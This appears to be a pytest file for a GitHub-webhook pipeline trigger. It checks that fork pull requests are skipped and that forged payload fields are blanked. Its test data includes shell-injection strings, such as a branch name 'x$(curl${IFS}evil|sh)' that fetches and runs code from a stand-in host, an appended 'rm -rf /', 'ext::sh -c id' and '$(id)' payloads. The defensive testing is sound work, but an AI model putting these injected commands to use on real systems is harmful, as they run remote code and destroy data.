"""Deliveries are untrusted: fork pull requests start nothing unless a pipeline opts in, well-known values that lack
GitHub's shape become "", and the simulator shows both (on real fork payloads, crafted ones and an injection)."""

from __future__ import annotations

import copy
import json
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from cli.simulate import delivery_environment, main
from delivery.expr import evaluate
from delivery.triggers import compile_parameters, compile_trigger
from settings.config import EVENTS_DISCRIMINATOR, Pipeline, parse_settings
from tests.harness import FIXTURES, PROJECT_ROOT, project_with_stack, stack_config

DELIVERY = "72d3162e-cc78-11e3-81ab-4c9367dc0958"
PAYLOADS = FIXTURES / "payloads"
INJECTION_BRANCH = "x$(curl${IFS}evil|sh)"
FORK_REASON = "pull request from the fork {}: forks run their author's code, opt in with forks: true"


@cache
def payload(name: str) -> dict[str, Any]:
    return json.loads((PAYLOADS / f"{name}.json").read_text())


def pipeline(events: list[str], **fields: Any) -> Pipeline:
    entry = {"name": "p", "template": "workflows/secret-scan.yaml", "events": events, **fields}
    return parse_settings(stack_config(pipelines=[entry]), PROJECT_ROOT).pipelines[0]


def fires(pipe: Pipeline, body: dict[str, Any], event: str) -> bool:
    env = delivery_environment(body, event, DELIVERY, EVENTS_DISCRIMINATOR, "workflows")
    result = evaluate(compile_trigger(pipe).selector, env)
    assert isinstance(result, bool)  # never an error, whatever the payload: one failing binding fails every delivery
    return result


def values(pipe: Pipeline, body: dict[str, Any], event: str, delivery: str = DELIVERY) -> dict[str, Any]:
    env = delivery_environment(body, event, delivery, EVENTS_DISCRIMINATOR, "workflows")
    return {name: evaluate(expression, env) for name, expression in compile_parameters(pipe).items()}


@pytest.mark.parametrize("name", ["pull_request-opened", "pull_request-synchronize"])
def test_real_fork_payloads_are_skipped_unless_the_pipeline_opts_in(name: str) -> None:
    fork = payload(f"{name}-fork")
    assert fork["pull_request"]["head"]["repo"]["fork"] is True
    assert fires(pipeline(["pull_request"]), payload(name), "pull_request") is True
    assert fires(pipeline(["pull_request"]), fork, "pull_request") is False
    assert fires(pipeline(["pull_request"], forks=True), fork, "pull_request") is True


def _crafted(change: str) -> dict[str, Any]:
    body = copy.deepcopy(payload("pull_request-opened"))
    if change == "head repo deleted":
        body["pull_request"]["head"]["repo"] = None
    elif change == "no head":
        del body["pull_request"]["head"]
    elif change == "no pull_request":
        del body["pull_request"]
    elif change == "same name, other id":  # a renamed or re-created repository is another repository
        body["pull_request"]["head"]["repo"]["id"] = 1
    elif change == "no base repo":
        body["pull_request"]["base"]["repo"] = None
    elif change == "ids as strings":
        body["pull_request"]["head"]["repo"]["id"] = "186853002"
    return body


@pytest.mark.parametrize(
    "change", ["head repo deleted", "no head", "no pull_request", "same name, other id", "no base repo", "ids as strings"]
)
def test_crafted_pull_requests_without_a_provably_same_head_are_skipped(change: str) -> None:
    for events in (["pull_request"], ["pull_request_review", "pull_request_review_comment"]):
        pipe = pipeline(events)
        assert fires(pipe, _crafted(change), events[0]) is False
        assert fires(pipeline(events, forks=True), _crafted(change), events[0]) is True


def test_push_pipelines_are_not_affected() -> None:
    assert fires(pipeline(["push"]), payload("push-branch"), "push") is True


def test_injection_in_a_branch_name_gives_an_empty_git_ref() -> None:
    body = copy.deepcopy(payload("push-branch"))
    body["ref"] = f"refs/heads/{INJECTION_BRANCH}"
    got = values(pipeline(["push"]), body, "push")
    assert got["git_ref"] == ""
    assert got["head_commit"] == "6113728f27ae82c7b1a177c8d03f9e96e0adf246"  # the commit still identifies the code


@pytest.mark.parametrize(
    ("field", "forged", "parameter"),
    [
        ("after", "6113728f27ae82c7b1a177c8d03f9e96e0adf246; rm -rf /", "head_commit"),
        ("after", "6113728F27AE82C7B1A177C8D03F9E96E0ADF246", "head_commit"),
        ("ref", "heads/main", "git_ref"),
        ("ref", "refs/heads/../../etc", "git_ref"),
        ("ref", "refs/heads/a b", "git_ref"),
        ("ref", "refs/heads/main\n", "git_ref"),
        ("ref", "refs/heads/main.lock.", "git_ref"),
        ("repository.clone_url", "http://github.com/a/b.git", "git_url"),
        ("repository.clone_url", "https://github.com/a/b.git?x=$(id)", "git_url"),
        ("repository.clone_url", "ext::sh -c id", "git_url"),
        ("repository.full_name", "a/b;id", "repository"),
        ("repository.full_name", 42, "repository"),
        ("repository.full_name", {"a": 1}, "repository"),
        ("after", ["6113728f27ae82c7b1a177c8d03f9e96e0adf246"], "head_commit"),
    ],
)
def test_forged_or_odd_values_become_empty(field: str, forged: Any, parameter: str) -> None:
    body = copy.deepcopy(payload("push-branch"))
    *parents, last = field.split(".")
    target = body
    for part in parents:
        target = target[part]
    target[last] = forged
    assert values(pipeline(["push"]), body, "push")[parameter] == ""


def test_real_values_keep_their_shape() -> None:
    body = copy.deepcopy(payload("push-branch"))
    body["ref"] = "refs/heads/feature/JIRA-123_fix+docs@v2"
    assert values(pipeline(["push"]), body, "push")["git_ref"] == "refs/heads/feature/JIRA-123_fix+docs@v2"
    assert values(pipeline(["release"]), payload("release-published"), "release")["git_ref"] == "refs/tags/0.0.1"


def test_header_values_are_guarded() -> None:
    entry = {"name": "p", "template": "workflows/hello-world.yaml", "events": ["push"]}
    pipe = parse_settings(stack_config(pipelines=[entry]), PROJECT_ROOT).pipelines[0]
    assert values(pipe, payload("push-branch"), "push")["delivery_id"] == DELIVERY
    assert values(pipe, payload("push-branch"), "push", delivery="x$(id)")["delivery_id"] == ""


def _project(tmp_path: Path, template: str | None = None, parameters: dict[str, str] | None = None) -> Path:
    """A project with one stack `t`: a push pipeline on secret-scan, or on `template` (YAML text) if given."""
    template_path = PROJECT_ROOT / "workflows" / "secret-scan.yaml"
    if template is not None:
        template_path = tmp_path / "t.yaml"
        template_path.write_text(template)
    config = {
        "argo-github-webhooks:host": "argo.example.com",
        "argo-github-webhooks:organizations": ["acme"],
        "argo-github-webhooks:pipelines": [
            {"name": "scan", "template": str(template_path), "events": ["push", "pull_request"],
             **({"parameters": parameters} if parameters else {})}
        ],
    }
    return project_with_stack(tmp_path, "t", config)


def test_simulator_shows_the_injected_branch_as_an_empty_git_ref(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = copy.deepcopy(payload("push-branch"))
    body["ref"] = f"refs/heads/{INJECTION_BRANCH}"
    (tmp_path / "push.json").write_text(json.dumps(body))
    project = _project(tmp_path)
    code = main(["--stack", "t", "--event", "push", "--payload", str(tmp_path / "push.json"), "--delivery", DELIVERY],
                project_root=project)
    out = capsys.readouterr().out
    assert code == 0
    assert "      git_ref = \n" in out
    assert INJECTION_BRANCH not in out


def test_simulator_refuses_a_template_that_would_run_the_branch_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shipped = (PROJECT_ROOT / "workflows" / "secret-scan.yaml").read_text()
    template = shipped.replace(
        'fetch "+$HEAD_COMMIT:refs/scan/head" || fetch "+$GIT_REF:refs/scan/head"',
        'fetch "+$HEAD_COMMIT:refs/scan/head" || fetch {{workflow.parameters.git_ref}}',
    )
    assert template != shipped
    # The well-known git_ref is guarded by its binding (a branch like x$(curl${IFS}evil|sh) gives ""); a pipeline
    # that maps the raw ref itself makes git_ref the delivery's text, which may reach the clone through env only.
    project = _project(tmp_path, template, parameters={"git_ref": "ref"})
    code = main(["--stack", "t", "--event", "push", "--payload", str(PAYLOADS / "push-branch.json")],
                project_root=project)
    err = capsys.readouterr().err
    assert code == 2
    assert (
        f"argo-github-webhooks:pipelines[0] (scan).template ({tmp_path / 't.yaml'}): template 'scan': "
        "initContainers[clone].args[0] carries the event-derived parameter 'git_ref' "
        "({{workflow.parameters.git_ref}}); an argument is parsed by the program it goes to" in err
    )
    assert "pass it through the environment" in err


def test_simulator_says_why_a_fork_pull_request_did_not_fire(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = _project(tmp_path)
    fork = PAYLOADS / "pull_request-opened-fork.json"
    code = main(["--stack", "t", "--event", "pull_request", "--payload", str(fork), "--json"], project_root=project)
    (result,) = json.loads(capsys.readouterr().out)["pipelines"]
    assert code == 1
    assert result == {
        "name": "scan",
        "fires": False,
        "reason": FORK_REASON.format("octo-fork/Hello-World"),
        "template": None,
        "workflow": None,
        "parameters": {},
        "notes": [],
    }
    deleted = copy.deepcopy(payload("pull_request-opened-fork"))
    deleted["pull_request"]["head"]["repo"] = None
    (tmp_path / "deleted.json").write_text(json.dumps(deleted))
    main(["--stack", "t", "--event", "pull_request", "--payload", str(tmp_path / "deleted.json")], project_root=project)
    assert FORK_REASON.format("a deleted or unknown repository") in capsys.readouterr().out
